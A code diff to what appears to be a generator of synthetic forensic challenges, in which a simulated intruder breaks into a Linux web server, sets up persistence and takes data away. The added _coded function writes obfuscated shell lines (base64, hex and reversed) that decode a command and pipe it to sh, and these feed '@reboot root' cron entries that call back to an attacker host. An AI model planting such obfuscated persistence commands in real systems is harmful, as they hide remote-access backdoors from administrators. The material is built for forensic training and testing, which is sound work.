@@ -4,6 +4,7 @@ By the seed, the intruder guesses a password, brings a stolen key, or uploads a 
 systemd, a profile or a key; and takes an archive away by scp, by curl, or through the web server. Others only try.
 """
 
+import base64
 import hashlib
 from collections.abc import Sequence
 from dataclasses import dataclass, field
@@ -11,7 +12,7 @@ from datetime import UTC, datetime, timedelta
 
 from swaplaw_forensic.synthetic.case import DAYS, Asked, Case, choose, counted, said, timed, working_days
 from swaplaw_forensic.synthetic.dice import Dice
-from swaplaw_forensic.synthetic.words import FIRST_NAMES, FOLDERS, STEMS, TOOLS, bad_host, coded, filler, packed
+from swaplaw_forensic.synthetic.words import FIRST_NAMES, FOLDERS, STEMS, TOOLS, bad_host, called, dated, filler, packed
 
 GUESSES = ("root", "admin", "test", "oracle", "deploy", "backup", "www", "git", "guest", "support", "mysql", "ftp")
 ENTRIES, STAYS, THEFTS = ("guess", "key", "upload"), ("cron", "systemd", "profile"), ("scp", "curl", "web")
@@ -62,7 +63,7 @@ def build(dice: Dice, level: int) -> Case:
     pool = _entry(server, entry, night, seen, outside)
     way, more = _stay(server, stay, night + timedelta(minutes=dice.between(5, 20)), level)
     pool += more + _theft(server, theft, night + timedelta(minutes=dice.between(40, 90)), seen, outside, level)
-    names = [f"{dice.word(8)}.tar", *([f"{dice.word(8)}.csv"] if level == 3 else [])]
+    names = called(dice, level, "tar")
     prompt = (
         f"/evidence/{names[0]} holds files of a Linux web server. Somebody got in one night, arranged to come back, "
         "and took something away; others only tried, and administrators did their work. All logs are in UTC."
@@ -72,9 +73,8 @@ def build(dice: Dice, level: int) -> Case:
             f" The server sees connections from the internet as coming from its gateway; /evidence/{names[1]} is the "
             "log of that gateway (time, address outside, address inside, port inside, service, bytes)."
         )
-    asked = choose(dice, pool, leave_out=1)
     procedure = {"entry": entry, "stay": stay, "theft": theft, "code": way}
-    return Case(tuple(names), prompt, asked, lambda: _evidence(server, start, level), procedure)
+    return Case(names, prompt, choose(dice, pool), lambda: _evidence(server, start), procedure)
 
 
 def _quiet(server: Server, start: datetime, days: int) -> None:
@@ -91,12 +91,9 @@ def _quiet(server: Server, start: datetime, days: int) -> None:
         line = f"GET /{dice.pick(FOLDERS)}/{dice.pick(STEMS)}{dice.between(1, 90)}.html"
         server.request(when, f"198.51.100.{dice.between(2, 250)}", line, 200 if dice.below(12) else 404)
     for number in range(PAGES):
-        place = (
-            f"var/www/html/{dice.pick(FOLDERS)}"
-            if number % 3
-            else f"home/{dice.pick(server.people)}/{dice.pick(FOLDERS)}"
-        )
-        server.files[f"{place}/{dice.pick(STEMS)}{number}.{'html' if number % 3 else 'txt'}"] = filler(dice, 200, 4000)
+        place, ending = ("var/www/html", "html") if number % 3 else (f"home/{dice.pick(server.people)}", "txt")
+        folder = dice.pick(FOLDERS)
+        server.files[f"{place}/{folder}/{dice.pick(STEMS)}{number}.{ending}"] = filler(dice, 200, 4000)
     for name in ("logrotate", "apt-compat", "e2scrub_all", "certbot", "sysstat"):
         server.files[f"etc/cron.d/{name}"] = f"25 6 * * * root /usr/sbin/{name} --quiet\n".encode()
         server.files[f"etc/systemd/system/{name}.service"] = f"[Service]\nExecStart=/usr/sbin/{name}\n".encode()
@@ -172,7 +169,7 @@ def _stay(server: Server, stay: str, when: datetime, level: int) -> tuple[str, l
     program = b"\x7fELF\x02\x01\x01\0" + dice.bytes(dice.between(5_000, 12_000))
     server.files[place] = program
     callback = f"{bad_host(dice)}:{dice.between(4000, 9999)}"
-    way, line = coded(dice, f"/{place} --connect {callback} --quiet", level)
+    way, line = _coded(dice, f"/{place} --connect {callback} --quiet", level)
     name = dice.word(6)
     starts = {
         "cron": (f"etc/cron.d/{name}", f"@reboot root {line}\n"),
@@ -189,6 +186,19 @@ def _stay(server: Server, stay: str, when: datetime, level: int) -> tuple[str, l
         said("program", "What is the SHA-256 of the intruder's program?", hashlib.sha256(program).hexdigest(),
              level=2, on="starter"),
     ]  # fmt: skip
+
+
+def _coded(dice: Dice, command: str, level: int) -> tuple[str, str]:
+    """Hide a shell command: plain at level 1, then in a code that varies. Return how, and the line that runs it."""
+    way = "plain" if level == 1 else dice.pick(("base64", "hex", "reversed") if level == 3 else ("base64", "hex"))
+    text = base64.b64encode(command.encode()).decode()
+    lines = {
+        "plain": command,
+        "base64": f"echo {text} | base64 -d | sh",
+        "hex": f"echo {command.encode().hex()} | xxd -r -p | sh",
+        "reversed": f"echo {text[::-1]} | rev | base64 -d | sh",
+    }
+    return way, lines[way]
 
 
 def _theft(server: Server, theft: str, when: datetime, seen: str, outside: str, level: int) -> list[Asked]:
@@ -218,18 +228,17 @@ def _theft(server: Server, theft: str, when: datetime, seen: str, outside: str, 
     return pool
 
 
-def _evidence(server: Server, start: datetime, level: int) -> tuple[bytes, ...]:
-    stamped = [f"{when:%Y-%m-%dT%H:%M:%S}+00:00 {server.name} {text}" for when, text in sorted(server.login)]
+def _evidence(server: Server, start: datetime) -> tuple[bytes, ...]:
+    login = [f"{when:%Y-%m-%dT%H:%M:%S}+00:00 {server.name} {text}" for when, text in sorted(server.login)]
     files = {
         **server.files,
-        "var/log/auth.log": _lines(stamped),
+        "var/log/auth.log": _lines(login),
         "var/log/nginx/access.log": _lines([text for _, text in sorted(server.web)]),
         "etc/passwd": _lines(
             [f"{name}:x:{1000 + n}:{1000 + n}::/home/{name}:/bin/bash" for n, name in enumerate(server.people)]
         ),
     }
-    flows = _lines([f"{when:%Y-%m-%dT%H:%M:%SZ},{text}" for when, text in sorted(server.flows)])
-    return (packed(files, start), flows) if level == 3 else (packed(files, start),)
+    return packed(files, start), dated(sorted(server.flows))
 
 
 def _lines(lines: Sequence[str]) -> bytes:
